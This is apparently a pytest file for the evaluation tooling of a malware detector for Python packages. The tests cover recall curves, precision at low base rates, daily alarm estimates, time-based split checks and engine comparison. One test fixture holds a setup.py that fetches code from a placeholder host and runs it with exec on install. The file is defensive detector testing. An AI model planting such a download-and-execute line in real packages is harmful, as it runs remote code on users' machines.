"""Breakdowns, the curve, a registry's day, splits that are refused, two engines compared, the page."""

from __future__ import annotations

from xml.etree import ElementTree as ET

import msgspec
import pytest

from pratique.errors import UsageError
from pratique.evaluate import compare, operating, page, splits
from pratique.evaluate.corpora import tier
from pratique.evaluate.figures import benign, groups
from pratique.evaluate.shapes import Corpora, Evaluation, Fired, Item, Outcome
from pratique.evaluate.work import boil
from pratique.pipeline import Options, review_files


def bad(n: int, **more: object) -> Item:
    known = {"split": "dev", "novel": True, "year": "2024", "location": "setup.py", "tier": "theft or execution"} | more
    return Item(corpus="malware", stratum="headline", sha256=f"m{n}", name=f"m{n}", group=str(n), **known)


def good(n: int, project: str = "") -> Item:
    return Item(corpus="benign", stratum="benign", sha256=f"b{n}", name=f"b{n}", group=project or f"p{n}", split="dev")


def outcome(sha256: str, score: float, **more: object) -> Outcome:
    level = "block" if score > 0.98 else "look" if score >= 0.5 else "clear"
    return Outcome(sha256=sha256, level=level, score=score, **more)


BAD = [bad(1), bad(2), bad(3, year="2023", split="train", novel=False), bad(4)]
GOOD = [good(1), good(2), good(3, "p2"), good(4)]
OUTCOMES = {
    one.sha256: one
    for one in (
        outcome("m1", 0.99, place="setup.py", trigger="install"),
        outcome("m2", 0.7, place="module.py", trigger="import"),
        outcome("m3", 0.6, place="setup.py", trigger="install"),
        outcome("m4", 0.1),
        outcome("b1", 0.0),
        outcome("b2", 0.65),
        outcome("b3", 0.2),
        outcome("b4", 0.0),
    )
}


def test_the_curve_starts_where_no_benign_artifact_is():
    """At each benign score: the recall there, and how many files and projects it costs."""
    found = operating.curve(BAD, GOOD, OUTCOMES)

    assert [tuple(msgspec.structs.astuple(one)) for one in found] == [
        (0.7, 0.6667, 0, 0),
        (0.65, 0.6667, 1, 1),
        (0.2, 0.6667, 2, 1),
    ]


def test_the_curve_never_falls_as_alarms_rise():
    found = operating.curve(BAD, GOOD, OUTCOMES)

    assert [one.recall for one in found] == sorted(one.recall for one in found)
    assert [one.files for one in found] == sorted(one.files for one in found)


def test_precision_falls_with_the_share_of_malware():
    """At one in a thousand, a perfect recall with one alarm in a thousand is a coin's throw."""
    assert operating.precision(1.0, 0.001, 0.001) == pytest.approx(0.5, abs=0.001)
    assert operating.precision(1.0, 0.001, 0.0001) == pytest.approx(0.091, abs=0.001)
    assert operating.precision(0.5, 0.0, 0.0001) == 1.0
    assert operating.precision(0.0, 0.0, 0.001) == 0.0


def test_a_registrys_day():
    found = {one.level: one for one in operating.operations(groups(BAD, OUTCOMES, {}), benign(GOOD, OUTCOMES, {}))}

    assert found["look"].alarms_a_day == pytest.approx(10_700 / 4)
    assert found["block"].alarms_a_day == 0
    assert found["block"].alarms_a_day_at_most == pytest.approx(10_700 * (1 - 0.05**0.25), rel=0.001)
    assert found["block"].precision["1:1000"] == 1.0
    assert found["block"].precision_at_least["1:1000"] < 0.01


def test_breakdowns_hold_every_undisputed_row_once():
    found = {one.by: one.groups for one in operating.breakdowns(BAD, OUTCOMES, {})}

    assert [(group.name, group.artifacts) for group in found["year"]] == [("2023", 1), ("2024", 3)]
    assert {name: sum(group.artifacts for group in rows) for name, rows in found.items()} == dict.fromkeys(found, 4)
    trigger = next(rows for name, rows in found.items() if name.startswith("trigger"))
    assert [group.name for group in trigger] == ["none", "import", "install"]


def test_localisation_counts_what_was_caught():
    found = operating.localisation(BAD, OUTCOMES)

    assert found is not None
    assert (found.rows, found.right) == (3, 2)


def test_the_tiers_of_the_packs_labels():
    row = {"suspect_mislabel": "", "verdict": "malicious", "pentest_hint": "0"}

    assert tier(row) == "theft or execution"
    assert tier(row | {"pentest_hint": "1"}) == "callback or proof of concept"
    assert tier(row | {"suspect_mislabel": "tiny|no-signal"}) == "hollow"


@pytest.mark.parametrize("name", ["random", "random:0.8", "k-fold", "shuffled"])
def test_a_random_split_is_refused_with_the_reason(name):
    with pytest.raises(UsageError, match="near-duplicate"):
        splits.chosen(name)


def test_the_command_line_refuses_it_before_it_looks_for_a_corpus(capsys):
    from pratique.cli import main

    assert main(["evaluate", "--split", "random"]) == 2
    assert "near-duplicate" in capsys.readouterr().err


def test_an_unknown_split_is_refused():
    with pytest.raises(UsageError, match="there is no split 2024"):
        splits.chosen("2024")


def test_a_pack_that_is_not_split_by_time_is_refused():
    with pytest.raises(UsageError, match="not split by time"):
        splits.check([bad(1, split="train", novel=False, year="2024"), bad(2, year="2022")])


def test_a_novel_cluster_that_train_has_is_refused():
    with pytest.raises(UsageError, match="novel"):
        splits.check([bad(1, split="train", novel=False, year="2023"), msgspec.structs.replace(bad(2), group="1")])


def test_the_usual_pack_is_not_refused():
    splits.check(BAD)


def test_two_engines_are_compared_benign_first_and_the_worst_first():
    """A benign file that is flagged now comes before a finding that vanished from malware."""
    fired = Fired(rule="run-decoded-code", trigger="install", category="malware", certainty="direct")
    after = OUTCOMES | {"b1": outcome("b1", 0.6, fired=(fired,)), "m1": outcome("m1", 0.1)}
    before = OUTCOMES | {"m1": outcome("m1", 0.99, fired=(fired,))}
    found = compare.shifts([*BAD, *GOOD], before, after)

    assert [(one.sha256, one.worse, one.appeared, one.vanished) for one in found] == [
        ("b1", True, ("run-decoded-code@install",), ()),
        ("m1", True, (), ("run-decoded-code@install",)),
    ]
    text = compare.render(found, 8)
    assert "8 artifacts seen by both; 2 judged differently" in text
    assert text.index("benign: 1") < text.index("malware: 1")


def test_an_artifact_that_only_one_engine_saw_is_not_compared():
    assert compare.shifts(BAD, {}, OUTCOMES) == ()


def test_an_outcome_names_the_kind_of_place_and_never_the_file():
    files = {"setup.py": b"import os, urllib.request as u\nexec(u.urlopen('http://x.acme.invalid/a').read())\n"}
    found = boil(review_files(files, "sdist", options=Options(audience="everything")))

    assert (found.place, found.trigger) == ("setup.py", "install")


def evaluation() -> Evaluation:
    recall, alarms = groups(BAD, OUTCOMES, {}), benign(GOOD, OUTCOMES, {})
    return Evaluation(
        engine="e", version="0", python="3", date="2026-01-01", limit_s=1.0,
        corpora=Corpora(malware="a", benign="b", selection="everything", malware_rows=4, benign_rows=4),
        groups=recall, locations=(), benign=alarms, misses=(), alerts=(), trouble=(), costs=(), rules=(), peers=(),
        breakdowns=operating.breakdowns(BAD, OUTCOMES, {}), localisation=operating.localisation(BAD, OUTCOMES),
        curve=operating.curve(BAD, GOOD, OUTCOMES), histogram=operating.histogram(BAD, GOOD, OUTCOMES),
        operations=operating.operations(recall, alarms),
    )  # fmt: skip


def test_the_page_and_its_pictures_come_from_the_result():
    """Every picture is well-formed and named by the page, which carries the result's digest and survives JSON."""
    result = evaluation()
    again = msgspec.json.decode(msgspec.json.encode(result), type=Evaluation)
    text, drawn = page.render(again), page.pictures(again)

    assert page.digest(result) in text
    assert "| headline novel dev | 3 | 3 | 66.7 %" in text
    assert {"evaluation-curve.svg", "evaluation-year.svg", "evaluation-scores.svg"} <= set(drawn)
    for name, picture in drawn.items():
        assert ET.fromstring(picture).tag.endswith("svg")
        assert f"({name})" in text


def test_another_result_has_another_digest():
    assert page.digest(evaluation()) != page.digest(msgspec.structs.replace(evaluation(), engine="f"))
